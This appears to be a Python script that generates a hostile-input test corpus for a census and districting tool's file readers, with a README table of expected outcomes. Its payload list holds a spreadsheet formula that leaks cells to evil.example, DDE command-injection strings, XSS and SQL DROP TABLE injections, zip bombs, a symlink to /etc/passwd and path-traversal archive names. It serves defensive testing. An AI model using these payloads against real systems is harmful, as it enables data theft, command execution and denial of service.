"""Write the hostile-input corpus of ``tests/data/bad/`` and its README.

Run from the repository root: ``.venv/bin/python -m tests.data.bad.make_corpus``. The files are
committed; this script says how each was made, so it can be read (or re-run) instead of a hex
dump. Every file is small (under 200 KB; the zip bombs are small when compressed) and is meant
for one role of the toy region of :mod:`tests.toy`: ``units`` (the tracts), ``census`` (the ACS
table) or ``districts``. :data:`ENTRIES` is the catalogue the tests read: the file, its role,
what is wrong with it, and whether a build must refuse it or may legitimately succeed.
"""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
from shapely.geometry import Point, box

from tests import toy

HERE = Path(__file__).resolve().parent
#: The hostile texts put in names: spreadsheet formulas, HTML/JS and SQL.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "'); DROP TABLE units; --",
    "Robert'); DROP TABLE districts;--",
)
LONG_NAME = "A" * 10_000
#: Fixed zip member dates, so the archives are the same bytes each time they are made.
ZIP_DATE = (2020, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Entry:
    """One corpus file.

    Attributes
    ----------
    name : str
        The file name in ``tests/data/bad``.
    role : str
        The role it plays in a copy of the toy region: units, census or districts.
    wrong : str
        What is wrong with it, in a sentence.
    outcome : str
        ``"refused"`` (check and build exit 2 with a message) or ``"built"`` (the file is
        readable once cleaned; its hostile text is stored verbatim and harmlessly).
    """

    name: str
    role: str
    wrong: str
    outcome: str = "refused"

    @property
    def boundary(self) -> bool:
        """Whether the file is a boundary a resident could upload (GeoJSON, zip, GeoPackage)."""
        return Path(self.name).suffix in (".geojson", ".zip", ".gpkg")


# --------------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------------


def _collection(features: list[dict[str, object]]) -> bytes:
    return toy.feature_collection(features).encode()


def _tracts(**changes: object) -> list[dict[str, object]]:
    """The toy tracts with properties changed: ``GEOID=[...]`` gives one value per feature."""
    features = toy.tract_features()
    for key, values in changes.items():
        for feature, value in zip(features, values, strict=True):  # type: ignore[call-overload]
            feature["properties"][key] = value  # type: ignore[index]
    return features


def _geometry(features: list[dict[str, object]], geometries: list[object]) -> list[dict[str, object]]:
    for feature, geometry in zip(features, geometries, strict=True):
        feature["geometry"] = geometry
    return features


def _districts(names: list[str]) -> bytes:
    """Districts tiling the toy tracts, one vertical strip per name."""
    x0, y0, step = toy.X0, toy.Y0, 3 * toy.STEP / len(names)
    features = [{"type": "Feature", "properties": {"NAME": name},
                 "geometry": {"type": "Polygon", "coordinates": [[
                     [x0 + i * step, y0], [x0 + (i + 1) * step, y0], [x0 + (i + 1) * step, y0 + 2 * toy.STEP],
                     [x0 + i * step, y0 + 2 * toy.STEP], [x0 + i * step, y0]]]}}
                for i, name in enumerate(names)]
    return _collection(features)


def _zip(members: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    """A zip of ``members`` (fixed dates); names in ``links`` are stored as symbolic links."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in links:
                info.create_system = 3
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, content)
    return buffer.getvalue()


def _shapefile(frame: gpd.GeoDataFrame, stem: str = "tracts") -> dict[str, bytes]:
    """The parts of a shapefile of ``frame``, by member name."""
    with tempfile.TemporaryDirectory() as tmp:
        frame.to_file(Path(tmp) / f"{stem}.shp", engine="pyogrio")
        parts = {p.name: p.read_bytes() for p in sorted(Path(tmp).iterdir())}
    dbf = parts[f"{stem}.dbf"]
    # A .dbf header holds the day it was written (bytes 1-3: years since 1900, month, day);
    # fix it to ZIP_DATE, or the archives would change every day the script runs.
    year, month, day = ZIP_DATE[:3]
    parts[f"{stem}.dbf"] = dbf[:1] + bytes((year - 1900, month, day)) + dbf[4:]
    return parts


def _tract_frame() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame.from_features(toy.tract_features(), crs="EPSG:4326")


def _tract_parts(drop: tuple[str, ...] = (), **replace: bytes) -> bytes:
    parts = {n: b for n, b in _shapefile(_tract_frame()).items() if Path(n).suffix not in drop}
    for suffix, content in replace.items():
        parts[f"tracts.{suffix}"] = content
    return _zip(parts)


ACS_HEADER = "GEOID,NAME,B03002_001E,B03002_001M,B03002_003E,B03002_003M"


def _csv(rows: list[str], header: str = ACS_HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


def _acs_rows(geoids: list[str] | None = None, names: list[str] | None = None) -> list[str]:
    rows = []
    for i, (geoid, (pop, pop_m, white, white_m)) in enumerate(toy.ACS_ROWS.items()):
        geoid = geoids[i] if geoids else geoid
        name = names[i] if names else f"Census Tract {geoid[5:]}; Fulton County; Georgia"
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"{geoid},{quoted},{pop},{pop_m},{white},{white_m}")
    return rows


def _api(rows: list[list[object]]) -> bytes:
    return json.dumps(rows).encode()


def _api_table() -> list[list[object]]:
    header: list[object] = ["NAME", "B03002_001E", "B03002_001M", "state", "county", "tract"]
    return [header, *[[f"Tract {g[5:]}", str(p), str(pm), g[:2], g[2:5], g[5:]]
                      for g, (p, pm, _, _) in toy.ACS_ROWS.items()]]


def _sqlite(statements: list[str]) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.gpkg"
        with sqlite3.connect(path) as con:
            for sql in statements:
                con.execute(sql)
        con.close()
        return path.read_bytes()


def _gpkg(frame: gpd.GeoDataFrame) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.gpkg"
        frame.to_file(path, engine="pyogrio", layer="tracts")
        return path.read_bytes()


def _deep(depth: int) -> bytes:
    return ('{"type": "FeatureCollection", "features": ' + "[" * depth + "]" * depth + "}").encode()


def _bowtie() -> list[object]:
    x, y, s = toy.X0, toy.Y0, toy.STEP
    return [{"type": "Polygon", "coordinates": [[[x, y], [x + s, y + s], [x + s, y], [x, y + s], [x, y]]]}]


def _ring(values: list[float]) -> dict[str, object]:
    return {"type": "Polygon", "coordinates": [[[values[0], values[1]], [values[2], values[1]],
                                                [values[2], values[3]], [values[0], values[1]]]]}


TRACTS = _collection(toy.tract_features())


# --------------------------------------------------------------------------------------------
# The corpus: (entry, how to make its bytes)
# --------------------------------------------------------------------------------------------

GEOIDS = toy.GEOIDS
CORPUS: list[tuple[Entry, Callable[[], bytes]]] = [
    # --- GeoJSON: syntax and structure
    (Entry("truncated.geojson", "units", "GeoJSON cut off half-way (an interrupted download)."),
     lambda: TRACTS[: len(TRACTS) // 2]),
    (Entry("malformed.geojson", "units", "GeoJSON with a trailing comma and a missing quote."),
     lambda: TRACTS.replace(b'"GEOID"', b'GEOID"', 1).replace(b"]}", b"],}", 1)),
    (Entry("not_geojson.geojson", "units", "valid JSON that is not GeoJSON (a TopoJSON-like object)."),
     lambda: json.dumps({"type": "Topology", "objects": {}, "arcs": []}).encode()),
    (Entry("json_array.geojson", "units", "a bare JSON array of numbers, not GeoJSON."),
     lambda: b"[1, 2, 3]"),
    (Entry("deep_nesting.geojson", "units", "features nested 50,000 brackets deep (parser recursion)."),
     lambda: _deep(50_000)),
    (Entry("empty_collection.geojson", "units", "a FeatureCollection with no features."),
     lambda: _collection([])),
    (Entry("null_geometries.geojson", "units", "every feature's geometry is null."),
     lambda: _collection(_geometry(toy.tract_features(), [None] * 6))),
    (Entry("empty_geometries.geojson", "units", "every feature's polygon has no coordinates."),
     lambda: _collection(_geometry(toy.tract_features(), [{"type": "Polygon", "coordinates": []}] * 6))),
    (Entry("points.geojson", "units", "tracts given as points, not polygons."),
     lambda: _collection(_geometry(toy.tract_features(), [
         {"type": "Point", "coordinates": [toy.X0 + i * 0.01, toy.Y0]} for i in range(6)]))),
    (Entry("mixed_geometries.geojson", "units", "a polygon, a line, a point and a collection mixed."),
     lambda: _collection(_geometry(toy.tract_features(), [
         toy.tract_features()[0]["geometry"],
         {"type": "LineString", "coordinates": [[toy.X0, toy.Y0], [toy.X0 + 0.01, toy.Y0 + 0.01]]},
         {"type": "Point", "coordinates": [toy.X0, toy.Y0]},
         {"type": "GeometryCollection", "geometries": []},
         {"type": "MultiPoint", "coordinates": [[toy.X0, toy.Y0]]},
         toy.tract_features()[5]["geometry"]]))),
    (Entry("string_coordinates.geojson", "units", "coordinates written as strings and nested nonsense."),
     lambda: _collection(_geometry(toy.tract_features(), [
         {"type": "Polygon", "coordinates": [[["-84.4", "33.75"], ["a", "b"], [{"x": 1}, None]]]}] * 6))),
    (Entry("unclosed_ring.geojson", "units", "polygon rings whose last point is not the first."),
     lambda: _collection(_geometry(toy.tract_features(), [
         {"type": "Polygon", "coordinates": [f["geometry"]["coordinates"][0][:-1]]}  # type: ignore[index]
         for f in toy.tract_features()]))),
    (Entry("self_intersecting.geojson", "units",
           "one tract is a bow-tie (self-intersecting): it is repaired with a warning.", "built"),
     lambda: _collection(_geometry(toy.tract_features(), _bowtie() + [
         f["geometry"] for f in toy.tract_features()[1:]]))),
    # --- coordinates
    (Entry("huge_coordinates.geojson", "units", "coordinates of 1e300 under a longitude/latitude CRS."),
     lambda: _collection(_geometry(toy.tract_features(), [_ring([1e300, 1e300, 2e300, 2e300])] * 6))),
    (Entry("nan_coordinates.geojson", "units", "coordinates written NaN (invalid JSON that Python writes)."),
     lambda: _collection(_geometry(toy.tract_features(), [_ring([float("nan")] * 4)] * 6))),
    (Entry("inf_coordinates.geojson", "units", "coordinates written as Infinity and 1e999."),
     lambda: _collection(_geometry(toy.tract_features(), [_ring([float("inf"), 1, 2, 3])] * 6))
     .replace(b"Infinity, 1", b"1e999, 1")),
    (Entry("projected_as_lonlat.geojson", "units",
           "State Plane feet (EPSG:2240 numbers) in a file that declares longitude/latitude."),
     lambda: _collection(_geometry(toy.tract_features(), [
         _ring([2_200_000 + i * 3000, 1_360_000, 2_203_000 + i * 3000, 1_363_000]) for i in range(6)]))),
    # --- encodings
    (Entry("latin1.geojson", "units", "names in Latin-1 bytes (GeoJSON must be UTF-8)."),
     lambda: _collection(_tracts(NAMELSAD=[f"Tract Peñasco {i}" for i in range(6)])).decode()
     .replace("\\u00f1", "ñ").encode("latin-1")),
    (Entry("utf16.geojson", "units", "GeoJSON saved as UTF-16 with a byte-order mark."),
     lambda: TRACTS.decode().encode("utf-16")),
    (Entry("bom.geojson", "units", "GeoJSON starting with a UTF-8 byte-order mark.", "built"),
     lambda: b"\xef\xbb\xbf" + TRACTS),
    # --- GEOIDs
    (Entry("duplicate_geoids.geojson", "units", "two tracts share one GEOID."),
     lambda: _collection(_tracts(GEOID=[GEOIDS[0], GEOIDS[0], *GEOIDS[2:]]))),
    (Entry("county_geoids.geojson", "units", "5-digit county codes in a tract file."),
     lambda: _collection(_tracts(GEOID=["13121", "13089", "13067", "13063", "13135", "13151"]))),
    (Entry("ten_digit_geoids.geojson", "units", "10-digit GEOIDs (a leading zero lost) that match no table."),
     lambda: _collection(_tracts(GEOID=[g[1:] for g in GEOIDS]))),
    (Entry("letter_geoids.geojson", "units", "GEOIDs with letters in them."),
     lambda: _collection(_tracts(GEOID=["13121ABC101", *GEOIDS[1:5], "1312100O203"]))),
    (Entry("block_group_geoids.geojson", "units", "12-digit block-group GEOIDs under level = \"tract\"."),
     lambda: _collection(_tracts(GEOID=[g + "1" for g in GEOIDS]))),
    (Entry("null_geoids.geojson", "units", "GEOIDs that are null, empty or an object."),
     lambda: _collection(_tracts(GEOID=[None, "", {"a": 1}, [1], True, GEOIDS[5]]))),
    (Entry("sql_geoids.geojson", "units", "GEOIDs holding SQL: '); DROP TABLE units; --."),
     lambda: _collection(_tracts(GEOID=["'); DROP TABLE units; --", *GEOIDS[1:]]))),
    # --- hostile names (legitimately text)
    (Entry("hostile_unit_names.geojson", "units",
           "tract names (NAMELSAD) holding formulas, HTML/JS and SQL: stored verbatim.", "built"),
     lambda: _collection(_tracts(NAMELSAD=list(HOSTILE_NAMES[:6])))),
    (Entry("hostile_district_names.geojson", "districts",
           "district names holding formulas, HTML/JS and SQL: stored verbatim.", "built"),
     lambda: _districts(list(HOSTILE_NAMES))),
    (Entry("long_district_names.geojson", "districts",
           "two district names of 10,000 characters: stored verbatim.", "built"),
     lambda: _districts([LONG_NAME, "B" * 10_000])),
    (Entry("control_char_names.geojson", "districts",
           "district names with NUL, newline, tab, bidi-override and zero-width characters.", "built"),
     lambda: _districts(["West\x00\nside", "East\u202eedisni\u200b", "\tTabbed\r"])),
    (Entry("empty_district_names.geojson", "districts", "districts whose names are blank or null."),
     lambda: _districts(["", "  "])),
    # --- zipped shapefiles
    (Entry("missing_dbf.zip", "units", "a zipped shapefile without its .dbf."),
     lambda: _tract_parts(drop=(".dbf",))),
    (Entry("missing_shx.zip", "units", "a zipped shapefile without its .shx."),
     lambda: _tract_parts(drop=(".shx",))),
    (Entry("no_prj.zip", "units", "a zipped shapefile without its .prj (and no `crs`)."),
     lambda: _tract_parts(drop=(".prj",))),
    (Entry("corrupt_shp.zip", "units", "a zipped shapefile whose .shp is random bytes."),
     lambda: _tract_parts(shp=bytes(range(256)) * 8)),
    (Entry("truncated_shp.zip", "units", "a zipped shapefile whose .shp stops after its header."),
     lambda: _tract_parts(shp=_shapefile(_tract_frame())["tracts.shp"][:120])),
    (Entry("wrong_prj.zip", "units",
           "longitude/latitude coordinates with a .prj saying Georgia West State Plane feet."),
     lambda: _tract_parts(prj=gpd.GeoSeries([], crs="EPSG:2240").crs.to_wkt("WKT1_ESRI").encode())),
    (Entry("garbage_prj.zip", "units", "a .prj holding no coordinate system at all."),
     lambda: _tract_parts(prj=b"this is not a projection <script>alert(1)</script>")),
    (Entry("points_shapefile.zip", "units", "a zipped shapefile of points, not polygons."),
     lambda: _zip(_shapefile(gpd.GeoDataFrame({"GEOID": GEOIDS},
                                              geometry=[Point(toy.X0, toy.Y0)] * 6, crs="EPSG:4326")))),
    (Entry("two_shapefiles.zip", "units", "a zip holding two shapefiles."),
     lambda: _zip({**_shapefile(_tract_frame()), **_shapefile(_tract_frame(), "other")})),
    (Entry("not_a_zip.zip", "units", "random bytes named .zip."),
     lambda: b"PK\x03\x04" + bytes(range(200))),
    (Entry("truncated.zip", "units", "a zipped shapefile cut off half-way (no central directory)."),
     lambda: _tract_parts()[: len(_tract_parts()) // 2]),
    (Entry("nested.zip", "units", "a zip holding only another zip of the shapefile."),
     lambda: _zip({"tracts.zip": _tract_parts()})),
    (Entry("zip_bomb.zip", "units", "a .shp member that unpacks from ~20 KB to 20 MB of zeros."),
     lambda: _zip({**_shapefile(_tract_frame()), "tracts.shp": bytes(20_000_000)})),
    (Entry("nested_bomb.zip", "units", "a zip of zips of 20 MB zero members (a small 42.zip)."),
     lambda: _zip({f"layer{i}.zip": _zip({f"part{j}.shp": bytes(20_000_000) for j in range(2)})
                   for i in range(2)})),
    (Entry("symlink.zip", "units", "a shapefile whose .dbf member is a symbolic link to /etc/passwd."),
     lambda: _zip({**_shapefile(_tract_frame()), "tracts.dbf": b"/etc/passwd"}, links=("tracts.dbf",))),
    (Entry("traversal.zip", "units", "shapefile members named ../../tracts.* (path traversal)."),
     lambda: _zip({f"../../{n}": b for n, b in _shapefile(_tract_frame()).items()})),
    (Entry("absolute_path.zip", "units", "shapefile members with absolute paths (/tmp/tracts.*)."),
     lambda: _zip({f"/tmp/{n}": b for n, b in _shapefile(_tract_frame()).items()})),
    (Entry("many_members.zip", "units",
           "a shapefile plus 1,500 empty files: a region may hold it, an upload may not.", "built"),
     lambda: _zip({**_shapefile(_tract_frame()), **{f"junk/{i}.txt": b"" for i in range(1500)}})),
    # --- GeoPackages
    (Entry("corrupt.gpkg", "units", "a GeoPackage with a valid SQLite header and garbage after it."),
     lambda: b"SQLite format 3\x00" + bytes(range(256)) * 4),
    (Entry("no_layers.gpkg", "units", "an SQLite database with no map layer (not a GeoPackage)."),
     lambda: _sqlite(["CREATE TABLE units (geoid TEXT)", "INSERT INTO units VALUES ('x')"])),
    (Entry("points.gpkg", "units", "a GeoPackage of points, not polygons."),
     lambda: _gpkg(gpd.GeoDataFrame({"GEOID": GEOIDS}, geometry=[Point(toy.X0, toy.Y0)] * 6,
                                    crs="EPSG:4326"))),
    (Entry("hostile_names.gpkg", "units", "a valid GeoPackage whose NAMELSAD holds hostile text.", "built"),
     lambda: _gpkg(gpd.GeoDataFrame({"GEOID": GEOIDS, "NAMELSAD": list(HOSTILE_NAMES[:6])},
                                    geometry=[box(*b) for b in gpd.GeoDataFrame.from_features(
                                        toy.tract_features()).geometry.bounds.to_numpy()],
                                    crs="EPSG:4326"))),
    # --- CSV tables
    (Entry("truncated.csv", "census", "an ACS CSV cut off in the middle of a row."),
     lambda: _csv(_acs_rows())[:-60]),
    (Entry("ragged.csv", "census", "rows with more cells than the header."),
     lambda: _csv([r + ",1,2,3" if i % 2 else r for i, r in enumerate(_acs_rows())])),
    (Entry("unbalanced_quotes.csv", "census", "a quote opened and never closed."),
     lambda: _csv(_acs_rows()).replace(b'"Census Tract 000102', b'"Census Tract 000102""', 1)
     .replace(b'Georgia"', b"Georgia", 1)),
    (Entry("latin1.csv", "census", "an ACS CSV in Latin-1 (Windows) encoding.", "built"),
     lambda: _csv(_acs_rows(names=[f"Tract Peñasco {i}" for i in range(6)])).decode().encode("latin-1")),
    (Entry("utf16.csv", "census", "an ACS table saved as UTF-16 tab-separated text (Excel's 'Unicode text').",
           "built"),
     lambda: _csv([r.replace(",", "\t") for r in _acs_rows(names=[f"Tract {i}" for i in range(6)])],
                  "GEOID\tNAME\tB03002_001E\tB03002_001M\tB03002_003E\tB03002_003M").decode().encode("utf-16")),
    (Entry("bom.csv", "census", "an ACS CSV starting with a UTF-8 byte-order mark.", "built"),
     lambda: b"\xef\xbb\xbf" + _csv(_acs_rows())),
    (Entry("binary.csv", "census", "random binary bytes named .csv."),
     lambda: bytes((i * 97 + 13) % 256 for i in range(4000))),
    (Entry("nul_bytes.csv", "census", "NUL bytes inside the cells."),
     lambda: _csv(_acs_rows()).replace(b",1000,", b",10\x0000,")),
    (Entry("header_only.csv", "census", "a header and no rows."),
     lambda: _csv([])),
    (Entry("missing_columns.csv", "census", "a GEOID column and nothing an ACS profile knows."),
     lambda: _csv(list(GEOIDS), "GEOID")),
    (Entry("no_geoid.csv", "census", "estimates without any GEOID column."),
     lambda: _csv([r.split(",", 1)[1] for r in _acs_rows()],
                  "NAME,B03002_001E,B03002_001M,B03002_003E,B03002_003M")),
    (Entry("duplicate_geoids.csv", "census", "one GEOID on two rows."),
     lambda: _csv(_acs_rows([GEOIDS[0], GEOIDS[0], *GEOIDS[2:]]))),
    (Entry("county_geoids.csv", "census", "5-digit county codes in a tract table."),
     lambda: _csv(_acs_rows(["13121", "13089", "13067", "13063", "13135", "13151"]))),
    (Entry("letter_geoids.csv", "census", "GEOIDs with letters (O for 0, I for 1)."),
     lambda: _csv(_acs_rows(["13121OOO101", *GEOIDS[1:5], "I3121000203"]))),
    (Entry("ten_digit_geoids.csv", "census", "10-digit GEOIDs that match no tract once padded."),
     lambda: _csv(_acs_rows([g[1:] for g in GEOIDS]))),
    (Entry("formula_values.csv", "census", "estimates that are spreadsheet formulas (=1+2, +cmd, @SUM)."),
     lambda: _csv([r.replace(",1000,", ",=1+2,").replace(",2000,", ",+cmd|' /C calc'!A0,")
                   .replace(",1500,", ",@SUM(A1:A9),") for r in _acs_rows()])),
    (Entry("formula_names.csv", "census",
           "NAME cells holding formulas, HTML/JS and SQL (the column is not stored).", "built"),
     lambda: _csv(_acs_rows(names=list(HOSTILE_NAMES[:6])))),
    (Entry("nan_inf.csv", "census", "estimates written NaN, inf, -inf, 1e999 and 1e308 * 10.", "built"),
     lambda: _csv([r.replace(",1000,", ",NaN,").replace(",2000,", ",inf,").replace(",1500,", ",-inf,")
                   .replace(",800,", ",1e999,") for r in _acs_rows()])),
    (Entry("huge_numbers.csv", "census",
           "estimates of 1e308 (district sums would overflow) and a 400-digit integer."),
     lambda: _csv([r.replace(",1000,", ",1e308,").replace(",600,", ",1e308,").replace(",800,", ",1e308,")
                   .replace(",2000,", "," + "9" * 400 + ",") for r in _acs_rows()])),
    (Entry("negative_counts.csv", "census", "negative population counts that are no Census sentinel."),
     lambda: _csv([r.replace(",1000,", ",-5,") for r in _acs_rows()])),
    (Entry("semicolons_quotes.csv", "census", "semicolon-separated with quoted delimiters in the header."),
     lambda: _csv([r.replace(",", ";") for r in _acs_rows(names=[f"T{i}" for i in range(6)])],
                  '"GEOID;x";NAME;B03002_001E;B03002_001M;B03002_003E;B03002_003M')),
    # --- Census Data API JSON
    (Entry("api_truncated.json", "census", "Census Data API JSON cut off half-way."),
     lambda: _api(_api_table())[:150]),
    (Entry("api_ragged.json", "census", "Census Data API JSON whose rows are shorter than the header."),
     lambda: _api([_api_table()[0], *[r[:-1] for r in _api_table()[1:]]])),
    (Entry("api_error_text.json", "census", "the API's plain-text error saved as .json."),
     lambda: b"error: unknown/unsupported geography hierarchy"),
    (Entry("api_object.json", "census", "a JSON object, not the API's array of rows."),
     lambda: json.dumps({"error": "too many variables", "rows": []}).encode()),
    (Entry("api_header_only.json", "census", "the API's header row and no data rows."),
     lambda: _api(_api_table()[:1])),
    (Entry("api_nested.json", "census", "rows holding nulls, objects, lists and numbers."),
     lambda: _api([_api_table()[0], *[[None, {"a": 1}, [1, 2], r[3], r[4], r[5]]
                                      for r in _api_table()[1:]]])),
    (Entry("api_bad_header.json", "census", "a header of nulls, numbers and duplicated names."),
     lambda: _api([[None, 1, "state", "state", "county", "tract"], *_api_table()[1:]])),
    (Entry("api_mixed_rows.json", "census", "a header row followed by records (objects), mixed."),
     lambda: _api([_api_table()[0], {"NAME": "x"}, *_api_table()[2:]])),  # type: ignore[list-item]
    (Entry("api_deep.json", "census", "an array nested 50,000 levels deep."),
     lambda: b"[" * 50_000 + b"]" * 50_000),
]
ENTRIES: list[Entry] = [entry for entry, _ in CORPUS]


def readme() -> str:
    """The README listing every file."""
    paths = {"units": "units layer (`ingest.geography.read_units`)",
             "census": "census layer (`ingest.files.read_table` -> `ingest.tabular.extract`, profile acs)",
             "districts": "districts layer (`ingest.geography.read_districts`)"}
    lines = [
        "# Hostile-input corpus",
        "",
        "Small broken or hostile files, each put into a copy of the toy region (`tests/toy.py`) in",
        "the role named below and run through `python -m indicators check` and `build` by",
        "`tests/test_hostile_corpus.py`: each must be refused with a plain message and exit 2 (or,",
        "where marked *built*, be read with its text stored verbatim), never a traceback, and an",
        "existing database must stay byte-for-byte unchanged. Every boundary file (GeoJSON, zip,",
        "GeoPackage) also goes through `indicators.ingest.upload.read_upload`, the residents'",
        "upload: an `UploadError` sentence or a clean read. Every file also goes through the editors'",
        "load from the Data page (`indicators.store.editor_load.load_file`; census files as a census",
        "table, the others as districts): a `LoadError` sentence with the database, the records",
        "database and the region folder unchanged, or a clean load.",
        "",
        "The files are made by `make_corpus.py` (`.venv/bin/python -m tests.data.bad.make_corpus`",
        "from the repository root); that script is the place to read how each was made. Every file",
        "is under 200 KB; the zip bombs are small only while compressed. Fuzzed inputs (generated,",
        "not committed) are in `tests/test_fuzz_readers.py`. Running the script again rewrites",
        "every file byte-for-byte the same except the two GeoPackages, which hold their creation time.",
        "",
        "| file | role (path through the readers) | what is wrong | outcome |",
        "|---|---|---|---|",
    ]
    for entry in ENTRIES:
        upload = " + `read_upload`" if entry.boundary else ""
        lines.append(f"| `{entry.name}` | {paths[entry.role]}{upload} | {entry.wrong.replace('|', '&#124;')} "
                     f"| {entry.outcome} |")
    return "\n".join(lines) + "\n"


def main() -> None:
    """Write every corpus file and the README."""
    for entry, make in CORPUS:
        (HERE / entry.name).write_bytes(make())
    (HERE / "README.md").write_text(readme())
    print(f"Wrote {len(CORPUS)} files and README.md to {HERE}.")


if __name__ == "__main__":
    main()
